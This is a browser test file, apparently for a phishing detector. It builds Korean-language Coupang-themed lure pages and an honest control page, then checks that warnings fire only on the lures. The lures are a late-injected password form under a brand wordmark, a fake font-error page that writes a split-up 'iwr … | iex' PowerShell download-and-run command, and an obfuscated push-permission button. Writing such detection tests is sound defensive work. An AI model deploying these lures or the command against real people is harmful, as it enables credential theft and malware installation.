import { beforeAll } from 'vitest';
import { forEachBrowser, type Session } from '../harness';
import { startReady } from '../page-helpers';
import { testKitsWarned, testLeftAlone } from './kit';

/**
 * Kits of page28's classes (authors Y's and AB's costumes), each written by the page's own script after load:
 * - a "news article" whose script slips in a look-up widget: a data: SVG wordmark (a letter per coloured tspan, no
 *   alt text) heading a form that asks for the password — the picture is the form's face inside the article;
 * - a "PDF font error" whose script writes the command to type into PowerShell into a <pre>;
 * - a reward page whose script adds an "Allow" button calling Notification.requestPermission() from its handler.
 * The honest twin: a news article with the brand's picture above its story, its guest comment box added late.
 */
const MARK = `data:image/svg+xml;base64,${Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="140" height="36"><text x="0" y="28" font-size="28">${[
    ...'coupang',
  ]
    .map(
      (c, i) =>
        `<tspan fill="#${['6d2a19', 'e52528', 'f2a11f', '78b829', '48a9c5', '1d6ec0', '8fc440'][i]}">${c}</tspan>`,
    )
    .join('')}</text></svg>`,
).toString('base64')}`;

const ARTICLE = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>[단독] 피해 여부 1분 만에 확인</title></head>
<body><div class="masthead"><b>새날경제신문</b></div><article><h1>[단독] 유출 피해 여부 1분 만에 확인… 조회 창구 열려</h1>
<p class="byline">입력 2026.12.05 08:30 | 이도윤 기자</p><p>3370만 명의 정보가 새어 나간 사고와 관련해 고객이 직접 피해 여부를 확인하는 창구가 열렸다.</p><div id="w"></div></article>
<script>
setTimeout(function(){
  var box=document.getElementById('w');
  box.innerHTML='<img src="${MARK}" width="120" alt=""><p>회원 유출 여부 조회</p><form action="/q"><input name="a1" placeholder="성함"><input name="a3" placeholder="가입 이메일"><input name="a4" type="password" placeholder="비밀번호"><button>조회하기</button></form>';
},600);
</script></body></html>`;

const FONT = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>주문서 열기 오류</title></head>
<body><div class="logo">coupang</div><h2>주문서 PDF 열기 오류</h2><p id="t"></p><pre id="c"></pre>
<script>
setTimeout(function(){
  document.getElementById('t').textContent='글꼴 누락으로 문서를 표시할 수 없습니다. PowerShell에서 다음 명령을 실행해 글꼴을 설치하세요.';
  document.getElementById('c').textContent=['iw','r fontfix.example.test/f',' | ','ie','x'].join('');
},500);
</script></body></html>`;

const PUSH = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>알림 설정</title></head>
<body><div class="logo">coupang</div><h3>배송 알림을 받으려면 "허용"을 누르세요</h3><p>알림을 허용하면 보상 캐시 3,000원이 즉시 적립됩니다.</p><div id="b"></div>
<script>
setTimeout(function(){
  var b=document.createElement('button');b.textContent='허용';
  b.setAttribute('onclick','Noti'+'fication.request'+'Permission()');
  document.getElementById('b').appendChild(b);
},500);
</script></body></html>`;

const HONEST = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>쿠팡, 유출 피해 고객에 이용권 지급 | 새날경제신문</title></head>
<body><div class="masthead"><b>새날경제신문</b></div><article><h1>쿠팡, 유출 피해 고객에 이용권 지급</h1><p class="byline">입력 2026.12.05 | 이도윤 기자</p>
<img src="${MARK}" width="120" alt=""><p>쿠팡은 유출 사고 피해 고객에게 이용권을 지급한다고 밝혔다. 회사는 문자나 전화로 앱 설치나 개인정보 입력을 요구하지 않는다며 공식 고객센터(1577-7011)로 확인해 달라고 당부했다. 이번 조치는 다음 달부터 적용된다.</p></article>
<section class="comments" id="cm"></section>
<script>
setTimeout(function(){
  document.getElementById('cm').innerHTML='<h3>댓글</h3><form action="/c"><input name="nick" placeholder="닉네임"><input name="pw" type="password" placeholder="비밀번호"><textarea name="body" placeholder="댓글을 남겨 주세요"></textarea><button>등록</button></form>';
},500);
</script></body></html>`;

forEachBrowser(
  'hostile page: a picture heading a late form, a command to type, a push prompt in a handler',
  (ctx) => {
    let s: Session;
    beforeAll(async () => {
      s = await startReady(ctx);
    });

    testKitsWarned(ctx, () => s, [
      [
        'a wordmark picture heading a form a news article adds late',
        'saenal-news.example.test',
        ARTICLE,
        'brand-logo',
      ],
      [
        'a command written into a <pre> to type into PowerShell',
        'order-doc.example.test',
        FONT,
        'asks-run-command',
      ],
      [
        'an Allow button whose handler asks for notifications',
        'push-notice.example.test',
        PUSH,
        'asks-push-permission',
      ],
    ]);

    testLeftAlone(
      ctx,
      () => s,
      "a news article's picture of the brand above its story, its comment box added late, is left alone",
      'saenal-news2.example.test',
      '/a',
      HONEST,
    );
  },
);
